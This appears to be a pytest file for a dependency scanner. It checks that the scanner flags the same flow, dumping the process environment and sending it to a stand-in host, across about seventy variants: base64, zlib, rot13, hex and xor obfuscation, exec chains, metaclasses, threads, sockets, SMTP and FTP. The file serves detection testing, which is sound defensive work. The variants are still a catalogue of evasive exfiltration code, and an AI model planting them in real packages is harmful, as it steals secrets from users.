"""One exfiltration (the environment is posted to a host) written in many ways: each must show the same flow."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from depscan.facts.python import read_python_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"
PLAIN = f"import os, requests\nrequests.post({HOST!r}, data=dict(os.environ))\n"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _chars(text: str) -> str:
    return repr([ord(c) for c in text])


VARIANTS = {
    "plainly": PLAIN,
    "module aliases": f"import os as o, requests as r\nr.post({HOST!r}, json=dict(o.environ))",
    "names imported under others": f"from os import environ as e\nfrom requests import post as p\np({HOST!r}, data=str(e))",
    "star imports": f"from os import *\nfrom requests import *\npost({HOST!r}, data=dict(environ))",
    "__import__": f"__import__('requests').post({HOST!r}, data=dict(__import__('os').environ))",
    "importlib": f"import importlib as i\ni.import_module('requests').post({HOST!r}, i.import_module('o'+'s').environ.copy())",
    "getattr chains": f"import os, requests\ngetattr(requests, 'po' + 'st')({HOST!r}, data=dict(getattr(os, 'nori'[::-1][:0] + 'env' + 'iron')))",
    "globals()": f"import os, requests\nglobals()['requests'].post({HOST!r}, data=dict(globals()['os'].environ))",
    "vars and __dict__": f"import os, requests\nvars(requests)['post']({HOST!r}, data=dict(os.__dict__['environ']))",
    "__builtins__": f"__builtins__['__import__']('requests').post({HOST!r}, data=dict(__builtins__['__import__']('os').environ))",
    "sys.modules": f"import sys, os, requests\nsys.modules['requests'].post({HOST!r}, data=dict(sys.modules['os'].environ))",
    "eval of a name": f"import os, requests\neval('requests').post({HOST!r}, data=dict(eval('os.environ')))",
    "exec of text": f"exec({PLAIN!r})",
    "exec of base64": f"import base64\nexec(base64.b64decode({_b64(PLAIN)!r}))",
    "exec under another name": f"import builtins, base64 as b\nz = getattr(builtins, 'ex' + 'ec')\nz(b.b64decode({_b64(PLAIN)!r}).decode())",
    "three layers": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(f'exec(__import__({chr(34)}base64{chr(34)}).b64decode({_b64(PLAIN)!r}))'.encode())).decode()!r})))",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(PLAIN, 'rot13')!r}, 'rot13'))",
    "hex": f"exec(bytes.fromhex({PLAIN.encode().hex()!r}))",
    "character codes": f"exec(''.join(map(chr, {_chars(PLAIN)})))",
    "character codes in a loop": f"s = ''\nfor c in {_chars(PLAIN)}:\n    s += chr(c)\nexec(s)",
    "xor": f"exec(''.join(chr(c ^ 7) for c in {[ord(c) ^ 7 for c in PLAIN]!r}))",
    "reversed": f"exec({PLAIN[::-1]!r}[::-1])",
    "replaced": f"exec({PLAIN.replace('requests', 'rZqZuZeZsts').replace('os', 'ZoZs')!r}.replace('rZqZuZeZsts', 'requests').replace('ZoZs', 'os'))",
    "compiled": f"exec(compile({PLAIN!r}, 'x', 'exec'))",
    "a function made of code": f"import types\ntypes.FunctionType(compile({PLAIN!r}, 'x', 'exec'), globals())()",
    "a lambda": f"import os, requests\n(lambda f, d: f({HOST!r}, data=d))(requests.post, dict(os.environ))",
    "a partial": f"import os, requests, functools\nfunctools.partial(requests.post, {HOST!r})(data=dict(os.environ))",
    "operator.attrgetter": f"import os, requests, operator\noperator.attrgetter('post')(requests)({HOST!r}, data=operator.attrgetter('environ')(os).copy())",
    "operator.methodcaller": f"import os, requests, operator\noperator.methodcaller('post', {HOST!r}, data=dict(os.environ))(requests)",
    "map": f"import os, requests\nlist(map(lambda u: requests.post(u, data=dict(os.environ)), [{HOST!r}]))",
    "a decorator": f"import os, requests\ndef run(f):\n    requests.post({HOST!r}, data=f())\n@run\ndef data():\n    return dict(os.environ)",
    "a class": f"import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post({HOST!r}, data=self.d)\nA().go()",
    "operators of a class": f"import os, requests\nclass A:\n    def __add__(self, other):\n        requests.post(other, data=dict(os.environ))\nA() + {HOST!r}",
    "__getattr__": f"import os, requests\nclass A:\n    def __getattr__(self, n):\n        requests.post({HOST!r}, data=dict(os.environ))\nA().anything",
    "__del__": f"import os, requests\nclass A:\n    def __del__(self):\n        requests.post({HOST!r}, data=dict(os.environ))\nA()",
    "__init_subclass__": f"import os, requests\nclass A:\n    def __init_subclass__(cls):\n        requests.post({HOST!r}, data=dict(os.environ))\nclass B(A):\n    pass",
    "a metaclass": f"import os, requests\nclass M(type):\n    def __new__(c, *a):\n        requests.post({HOST!r}, data=dict(os.environ))\nclass B(metaclass=M):\n    pass",
    "a property": f"import os, requests\nclass A:\n    @property\n    def x(self):\n        requests.post({HOST!r}, data=dict(os.environ))\nA().x",
    "a thread": f"import os, requests, threading\ndef go():\n    requests.post({HOST!r}, data=dict(os.environ))\nthreading.Thread(target=go).start()",
    "a thread class": f"import os, requests, threading\nclass T(threading.Thread):\n    def run(self):\n        requests.post({HOST!r}, data=dict(os.environ))\nT().start()",
    "at exit": f"import os, requests, atexit\natexit.register(requests.post, {HOST!r}, data=dict(os.environ))",
    "a process": f"import os, requests, multiprocessing as mp\ndef go(d):\n    requests.post({HOST!r}, data=d)\nmp.Process(target=go, args=(dict(os.environ),)).start()",
    "an executor": f"import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as x:\n    x.submit(requests.post, {HOST!r}, json=dict(os.environ))",
    "a generator": f"import os, requests\ndef g():\n    yield dict(os.environ)\nfor d in g():\n    requests.post({HOST!r}, data=d)",
    "a comprehension": f"import os, requests\nrequests.post({HOST!r}, json=[k + '=' + v for k, v in os.environ.items()])",
    "a loop over the environment": f"import os, requests\nd = {{}}\nfor k in os.environ:\n    d[k] = os.environ[k]\nrequests.post({HOST!r}, json=d)",
    "encoded before it is sent": f"import os, requests, json, base64\nb = base64.b64encode(json.dumps(dict(os.environ)).encode())\nrequests.post({HOST!r}, data={{'x': b.decode()}})",
    "in the address": f"import os, requests, base64\nrequests.get(f'{HOST}?q={{base64.b64encode(str(os.environ).encode())}}')",
    "in the headers": f"import os, requests\ns = requests.Session()\ns.headers.update({{'X-A': str(dict(os.environ))}})\ns.get({HOST!r})",
    "urllib": f"import os, urllib.request as u, urllib.parse as p\nu.urlopen(u.Request({HOST!r}, data=p.urlencode(dict(os.environ)).encode()))",
    "urllib with data": f"import os, json\nfrom urllib.request import urlopen\nurlopen({HOST!r}, json.dumps(dict(os.environ)).encode())",
    "http.client": "import os, http.client\nc = http.client.HTTPSConnection('collect.example.invalid')\nc.request('POST', '/a', str(os.environ))",
    "pip's requests": f"import os\nfrom pip._vendor import requests\nrequests.post({HOST!r}, data=dict(os.environ))",
    "urllib3": f"import os, urllib3\nurllib3.PoolManager().request('POST', {HOST!r}, fields=dict(os.environ))",
    "httpx": f"import os, httpx\nwith httpx.Client() as c:\n    c.post({HOST!r}, json=dict(os.environ))",
    "aiohttp": f"import os, aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.post({HOST!r}, json=dict(os.environ)) as r:\n            await r.text()\nasyncio.run(go())",
    "asyncio streams": "import os, asyncio\nasync def go():\n    r, w = await asyncio.open_connection('collect.example.invalid', 80)\n    w.write(str(os.environ).encode())\nasyncio.run(go())",
    "a socket by number": "import os, socket\ns = socket.socket(2, 1)\ns.connect(('collect.example.invalid', 4444))\ns.sendall(str(dict(os.environ)).encode())",
    "smtp": "import os, smtplib\ns = smtplib.SMTP('mail.example.invalid')\ns.sendmail('a@example.invalid', 'b@example.invalid', str(os.environ))",
    "ftp": "import os, ftplib, io\nf = ftplib.FTP('ftp.example.invalid')\nf.storbinary('STOR x', io.BytesIO(str(os.environ).encode()))",
    "through a file": f"import os, json, requests\nwith open('/tmp/x', 'w') as f:\n    json.dump(dict(os.environ), f)\nrequests.post({HOST!r}, files={{'f': open('/tmp/x', 'rb')}})",
    "behind a condition": f"import os, requests, sys\nif 'linux' in sys.platform and not os.path.exists('/x'):\n    pass\nelse:\n    requests.post({HOST!r}, data=dict(os.environ))",
    "after much work": f"import os, requests\nx = 0\nfor i in range(10**7):\n    x += i\nwhile x:\n    x -= 1\nrequests.post({HOST!r}, data=dict(os.environ))",
    "a late import": f"def go():\n    import os, requests\n    return requests.post({HOST!r}, data=dict(os.environ))\ngo()",
    "dynamic attributes": f"import os, requests\nclass A: pass\na = A()\nsetattr(a, 'f', requests.post)\nsetattr(a, 'd', dict(os.environ))\na.f({HOST!r}, data=a.d)",
    "a dict of functions": f"import os, requests\nt = {{'a': requests.post, 'b': lambda: dict(os.environ)}}\nt['a']({HOST!r}, data=t['b']())",
    "a class made by type()": f"import os, requests\nA = type('A', (), {{'go': lambda self: requests.post({HOST!r}, data=dict(os.environ))}})\nA().go()",
    "os.environ.copy aliased": f"import os, requests\nf = os.environ.copy\nrequests.post({HOST!r}, data=f())",
    "python -c in a process": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {PLAIN!r}])",
    "shell command around python": "import os\nos.system('python3 -c \"import os,requests;requests.post(chr(104), data=dict(os.environ))\"')",
    "Python 2": f"import os, urllib2\nprint 'x'\nurllib2.urlopen({HOST!r}, str(os.environ))",
}  # fmt: skip


def _flows(sink: Sink, index: int, what: str, seen: frozenset[int] = frozenset()) -> bool:
    fact = sink.facts[index]
    return fact.what == what or any(
        _flows(sink, source, what, seen | {index}) for source in fact.sources if source not in seen
    )


@pytest.mark.parametrize("text", VARIANTS.values(), ids=VARIANTS.keys())
def test_the_environment_is_seen_to_flow_to_the_network_when_it_is_sent(text: str) -> None:
    sink = Sink()
    read_python_text(text, path="setup.py", line=0, when="install", layer=(), sink=sink)
    senders = [i for i, fact in enumerate(sink.facts) if fact.what == "net.send"]
    assert any(_flows(sink, i, "env.dump") for i in senders), sink.facts
    assert any(fact.when == "install" for fact in sink.facts if fact.what == "net.send")
